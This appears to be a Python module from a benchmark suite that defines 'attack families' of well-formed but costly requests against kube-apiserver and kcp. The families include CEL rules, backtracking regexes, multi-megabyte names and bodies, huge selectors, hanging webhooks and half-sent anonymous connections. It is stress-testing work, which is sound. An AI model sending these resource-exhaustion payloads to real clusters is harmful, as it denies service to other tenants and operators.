"""The attack families: requests that cost the server more than the sender.

Every request is well-formed, and kube-apiserver answers it, too. A family creates the objects that it needs as an ordinary user,
and then yields one request after the other. `@` in a path or body stands for the number of the request.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any

import orjson

from benchmarks.hostile.certificate_requests import certificate_request
from benchmarks.hostile.evil_webhooks import WAYS
from benchmarks.hostile.site import Site

JSON = "Content-Type: application/json\r\n"
MERGE = "Content-Type: application/merge-patch+json\r\n"
STRATEGIC = "Content-Type: application/strategic-merge-patch+json\r\n"
TABLE = "Accept: application/json;as=Table;v=v1;g=meta.k8s.io\r\n"
GROUP = "hostile.example.com"
RBAC = "rbac.authorization.k8s.io/v1"
MIB = 1024 * 1024
MARK = b"@"


@dataclass(frozen=True, slots=True)
class Request:
    """One request. `headers`: complete lines. `anonymous`: it is sent without a token."""

    method: str
    path: str
    body: bytes = b""
    headers: str = JSON
    anonymous: bool = False

    def numbered(self, number: int) -> Request:
        """The request with its number in place of `@`."""
        text = str(number)
        body = self.body.replace(MARK, text.encode()) if MARK in self.body else self.body
        return Request(self.method, self.path.replace("@", text), body, self.headers, self.anonymous)


@dataclass(frozen=True, slots=True)
class Family:
    """One family.

    `prepare`: requests that are sent once, in order; each must succeed, or its object must exist. `requests`: sent in turn.
    `driver`: name of a way of sending other than one request after the other. `kubernetes`: it applies to kube-apiserver, too.
    """

    what: str
    requests: Callable[[Site], Sequence[Request]] = lambda site: ()
    prepare: Callable[[Site], Sequence[Request]] = lambda site: ()
    driver: str = "requests"
    kubernetes: bool = True


def _dumps(value: Any) -> bytes:
    return orjson.dumps(value)


def _definition(site: Site, plural: str, spec: Any, **version: Any) -> Request:
    kind = plural.capitalize()
    body = {
        "apiVersion": "apiextensions.k8s.io/v1",
        "kind": "CustomResourceDefinition",
        "metadata": {"name": f"{plural}.{GROUP}"},
        "spec": {
            "group": GROUP,
            "scope": "Namespaced",
            "names": {"plural": plural, "singular": kind.lower(), "kind": kind, "listKind": f"{kind}List"},
            "versions": [
                {
                    "name": "v1",
                    "served": True,
                    "storage": True,
                    "schema": {"openAPIV3Schema": {"type": "object", "properties": {"spec": spec}}},
                    **version,
                }
            ],
        },
    }
    return Request("POST", site.group("apiextensions.k8s.io/v1", "customresourcedefinitions"), _dumps(body))


def _custom(site: Site, plural: str, spec: Any, name: str = "one") -> bytes:
    return _dumps({"apiVersion": f"{GROUP}/v1", "kind": plural.capitalize(), "metadata": {"name": name}, "spec": spec})


def _custom_path(site: Site, plural: str) -> str:
    return site.group(f"{GROUP}/v1", plural, namespaced=True)


_ANYTHING = {"type": "object", "x-kubernetes-preserve-unknown-fields": True}


def _rules(site: Site) -> Sequence[Request]:
    """Validation rules that iterate over a list for each of its items, up to the limit of the estimated cost."""
    items = {"type": "array", "maxItems": 100, "items": {"type": "string", "maxLength": 64}}
    rule = "self.items.all(x, self.items.exists(y, y.contains(x)))"
    spec = {"type": "object", "properties": {"items": items}, "x-kubernetes-validations": [{"rule": rule}]}
    return [_definition(site, "rules", spec)]


def _rules_requests(site: Site) -> Sequence[Request]:
    body = _custom(site, "rules", {"items": [f"{'a' * 60}{i:03}" for i in range(100)]})
    return [Request("POST", f"{_custom_path(site, 'rules')}?dryRun=All", body)]


def _patterns(site: Site) -> Sequence[Request]:
    spec = {"type": "object", "properties": {"texts": {"type": "array", "items": {"type": "string", "pattern": "^(a|b|ab)*c$"}}}}
    return [_definition(site, "patterns", spec)]


def _patterns_requests(site: Site) -> Sequence[Request]:
    # Short, so that no engine hangs. Many, so that an engine with backtracking is a hundred times slower.
    body = _custom(site, "patterns", {"texts": ["ab" * 8] * 1000})
    return [Request("POST", f"{_custom_path(site, 'patterns')}?dryRun=All", body)]


def _columns(site: Site) -> Sequence[Request]:
    column = {"name": "C", "type": "string", "jsonPath": ".spec..a..a..a"}
    nested: dict[str, Any] = {}
    for _ in range(30):
        nested = {"a": nested}
    objects = [Request("POST", _custom_path(site, "columns"), _custom(site, "columns", nested, f"deep-{i}")) for i in range(20)]
    return [_definition(site, "columns", _ANYTHING, additionalPrinterColumns=[column]), *objects]


def _columns_requests(site: Site) -> Sequence[Request]:
    return [Request("GET", _custom_path(site, "columns"), headers=TABLE)]


LONG_LIST = 10_000


def _long_list(site: Site) -> Sequence[Request]:
    account = {"metadata": {"name": "long"}, "secrets": [{"name": f"s{i}"} for i in range(LONG_LIST)]}
    return [Request("POST", site.core("serviceaccounts"), _dumps(account))]


def _long_list_requests(site: Site) -> Sequence[Request]:
    body = _dumps({"secrets": [{"name": "one"}]})
    return [Request("PATCH", f"{site.core('serviceaccounts')}/long?dryRun=All", body, STRATEGIC)]


def _owners_requests(site: Site) -> Sequence[Request]:
    def owners(count: int, **more: Any) -> bytes:
        owner = {"apiVersion": "v1", "kind": "A", "name": "x"}
        return _dumps({"metadata": {"name": "o", "ownerReferences": [{**owner, "uid": str(i), **more} for i in range(count)]}})

    where = f"{site.core('configmaps')}?dryRun=All"
    return [Request("POST", where, owners(400, controller=True)), Request("POST", where, owners(8000))]


def _unknown_requests(site: Site) -> Sequence[Request]:
    body = _dumps({"metadata": {"name": "u"}, **{f"f{i}": 1 for i in range(20_000)}})
    where = f"{site.core('configmaps')}?dryRun=All&fieldValidation="
    return [Request("POST", where + validation, body) for validation in ("Warn", "Strict")]


def _duplicates_requests(site: Site) -> Sequence[Request]:
    repeated = b",".join(b'"k%d":"v"' % (i % 5000) for i in range(20_000))
    body = b'{"metadata":{"name":"d"},"data":{' + repeated + b"}}"
    where = f"{site.core('configmaps')}?dryRun=All&fieldValidation="
    return [Request("POST", where + validation, body) for validation in ("Warn", "Strict")]


def _role(site: Site, dry_run: bool) -> Request:
    size = 160
    rule = {
        "apiGroups": [f"g{i}" for i in range(size)],
        "resources": [f"r{i}" for i in range(size)],
        "verbs": [f"v{i}" for i in range(size)],
    }
    where = site.group(RBAC, "clusterroles") + ("?dryRun=All" if dry_run else "")
    return Request("POST", where, _dumps({"metadata": {"name": "wide-@" if dry_run else "wide"}, "rules": [rule]}))


def _roles(site: Site) -> Sequence[Request]:
    binding = {
        "metadata": {"name": "wide"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "wide"},
        "subjects": [{"kind": "User", "name": "wide", "apiGroup": "rbac.authorization.k8s.io"}],
    }
    return [_role(site, False), Request("POST", site.group(RBAC, "clusterrolebindings"), _dumps(binding))]


def _roles_requests(site: Site) -> Sequence[Request]:
    review = {"spec": {"user": "wide", "resourceAttributes": {"verb": "v159", "group": "g@", "resource": "r159"}}}
    return [
        _role(site, True),
        Request("POST", site.group("authorization.k8s.io/v1", "subjectaccessreviews"), _dumps(review)),
    ]


def _bodies_requests(site: Site) -> Sequence[Request]:
    """Bodies just below the limit of 3 MiB, with different structures."""
    where = f"{_custom_path(site, 'bodies')}?dryRun=All"
    room = 3 * MIB - 4096
    deep = b'{"a":' * 90 + b"1" + b"}" * 90

    def body(spec: bytes) -> Request:
        return Request(
            "POST",
            where,
            b'{"apiVersion":"%s/v1","kind":"Bodies","metadata":{"name":"b"},"spec":{"x":%s}}' % (GROUP.encode(), spec),
        )

    def full(item: bytes, frame: bytes = b"[]") -> bytes:
        count = room // (len(item) + 1)
        return frame[:1] + b",".join([item] * count) + frame[1:]

    keys = b"{" + b",".join(b'"k%06d":1' % i for i in range(room // 12)) + b"}"
    return [
        body(full(b"1")),
        body(full(b"{}")),
        body(full(b'{"a":"b"}')),
        body(full(deep)),
        body(b'"' + b"x" * room + b'"'),
        body(b'"' + b"\\u00e9" * (room // 6) + b'"'),
        body(keys),
    ]


def _bodies(site: Site) -> Sequence[Request]:
    return [_definition(site, "bodies", _ANYTHING)]


def _reviews_requests(site: Site) -> Sequence[Request]:
    review = {"spec": {"user": "@-" + "a" * 2_500_000, "resourceAttributes": {"verb": "get", "resource": "configmaps"}}}
    return [Request("POST", site.group("authorization.k8s.io/v1", "subjectaccessreviews"), _dumps(review))]


def _selectors_requests(site: Site) -> Sequence[Request]:
    where = f"{site.core('configmaps')}?limit=1"
    return [
        Request("GET", f"{where}&labelSelector=x@," + "a," * 3_900 + "b", headers=""),
        Request("GET", f"{where}&fieldSelector=metadata.name%3Dx@," + "metadata.name!=," * 450 + "metadata.name!=b", headers=""),
    ]


def _names_requests(site: Site) -> Sequence[Request]:
    long = 2_600_000
    bodies: list[Any] = [
        {"metadata": {"name": "n" * long + "@"}},
        {"metadata": {"name": "a", "labels": {"n": "v" * long + "@"}}},
        {"metadata": {"name": "a", "labels": {"k" * long + "@": "v"}}},
        {"metadata": {"name": "a", "finalizers": ["x/" + "f" * long + "@"]}},
    ]
    return [Request("POST", f"{site.core('configmaps')}?dryRun=All", _dumps(body)) for body in bodies]


def _reads_requests(site: Site) -> Sequence[Request]:
    """As many lists of many big objects as possible."""
    return [Request("GET", f"{site.core('configmaps')}?limit=500&n=@", headers="")]


def _reads(site: Site) -> Sequence[Request]:
    text = "x" * 2048
    return [
        Request("POST", site.core("configmaps"), _dumps({"metadata": {"name": f"read-{i}"}, "data": {"text": text}}))
        for i in range(500)
    ]


def _writes_requests(site: Site) -> Sequence[Request]:
    body = _dumps({"metadata": {"name": "write-@"}, "data": {"text": "x" * 512}})
    return [Request("POST", site.core("configmaps"), body), Request("DELETE", f"{site.core('configmaps')}/write-@")]


def _workspaces_requests(site: Site) -> Sequence[Request]:
    """Creates and deletes workspaces: one request causes much work of the controllers."""
    where = site.group("tenancy.kcp.io/v1alpha1", "workspaces")
    body = _dumps({"apiVersion": "tenancy.kcp.io/v1alpha1", "kind": "Workspace", "metadata": {"name": "w@"}})
    return [Request("POST", where, body), Request("DELETE", f"{where}/w@")]


def _strangers_requests(site: Site) -> Sequence[Request]:
    """Anonymous requests for tenants that do not exist, each time another one."""
    paths = ("/clusters/nobody@/livez", "/clusters/root:nobody@/api/v1/configmaps", "/services/nobody@/x")
    return [Request("GET", path, headers="", anonymous=True) for path in paths]


ADMISSION = "admissionregistration.k8s.io/v1"
MANY = "object.data.all(a, object.data.all(b, object.data.all(c, a + b + c != '')))"
"""With 52 entries it costs nearly what one expression may: 1,000,000 units."""


def _policies(site: Site) -> Sequence[Request]:
    """As many expressions as a policy may evaluate. They are for the namespace of the tenant."""
    only = {"matchLabels": {"kubernetes.io/metadata.name": site.namespace}, "matchExpressions": []}
    rule = {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["configmaps"]}
    spec = {
        "matchConstraints": {
            "resourceRules": [rule],
            "namespaceSelector": only,
            "objectSelector": {"matchLabels": {"dear": "1"}},
        },
        "validations": [{"expression": MANY}] * 9,
        "failurePolicy": "Ignore",
    }
    binding = {"policyName": "dear", "validationActions": ["Audit"]}
    return [
        Request("POST", site.group(ADMISSION, f"validatingadmission{kind}"), _dumps({"metadata": {"name": "dear"}, "spec": made}))
        for kind, made in (("policies", spec), ("policybindings", binding))
    ]


def _policies_requests(site: Site) -> Sequence[Request]:
    data = {f"k{number:02}": "v" for number in range(52)}
    body = _dumps({"metadata": {"name": "dear", "labels": {"dear": "1"}}, "data": data})
    return [Request("POST", f"{site.core('configmaps')}?dryRun=All", body)]


def _webhooks_requests(site: Site) -> Sequence[Request]:
    where = f"{site.core('configmaps')}?dryRun=All"
    bodies = [{"metadata": {"name": way, "labels": {"way": way}}} for way in WAYS]
    return [Request("POST", where, _dumps(body)) for body in bodies]


def _certificates_requests(site: Site) -> Sequence[Request]:
    """Each certificate is requested, approved, signed and deleted."""
    where = site.group("certificates.k8s.io/v1", "certificatesigningrequests")
    spec = {
        "request": base64.b64encode(certificate_request()).decode(),
        "signerName": "kubernetes.io/kube-apiserver-client",
        "usages": ["client auth"],
    }
    condition = {"type": "Approved", "status": "True", "reason": "Hostile"}
    return [
        Request("POST", where, _dumps({"metadata": {"name": "c@"}, "spec": spec})),
        Request("PATCH", f"{where}/c@/approval", _dumps({"status": {"conditions": [condition]}}), MERGE),
        Request("DELETE", f"{where}/c@"),
    ]


FAMILIES: dict[str, Family] = {
    "cel": Family("CEL rules that walk a list for each of its items", _rules_requests, _rules),
    "patterns": Family("a pattern that backtracking engines are slow on", _patterns_requests, _patterns),
    "columns": Family("printer columns that descend in every step", _columns_requests, _columns),
    "long-list": Family("a strategic merge patch of 28 bytes onto 10,000 items", _long_list_requests, _long_list),
    "owners": Family("thousands of ownerReferences", _owners_requests),
    "unknown-fields": Family("20,000 unknown fields", _unknown_requests),
    "duplicate-keys": Family("20,000 keys, most of them twice", _duplicates_requests),
    "roles": Family("roles of 160 verbs, groups and resources", _roles_requests, _roles),
    "bodies": Family("bodies of 3 MiB in seven shapes", _bodies_requests, _bodies),
    "reviews": Family("access reviews of users with names of 2.5 MB", _reviews_requests),
    "selectors": Family("selectors of thousands of requirements, each another one", _selectors_requests),
    "names": Family("names, labels and finalizers of 2.6 MB, each another one", _names_requests),
    "reads": Family("lists of 1 MB as fast as they are answered", _reads_requests, _reads),
    "writes": Family("creates and deletes as fast as they are answered", _writes_requests),
    "watches": Family("watches that are opened and left at once", driver="watches"),
    "half-sent": Family("1,700 connections without credentials, each with half a body", driver="half-sent"),
    "workspaces": Family("workspaces made and deleted", _workspaces_requests, kubernetes=False),
    "policies": Family("nine expressions of the greatest cost for each write", _policies_requests, _policies),
    "webhooks": Family("webhooks that answer never, endlessly, or with a redirect", _webhooks_requests, driver="webhooks"),
    "certificates": Family("certificates requested, approved and deleted", _certificates_requests),
    "strangers": Family("requests without credentials for what does not exist", _strangers_requests),
}
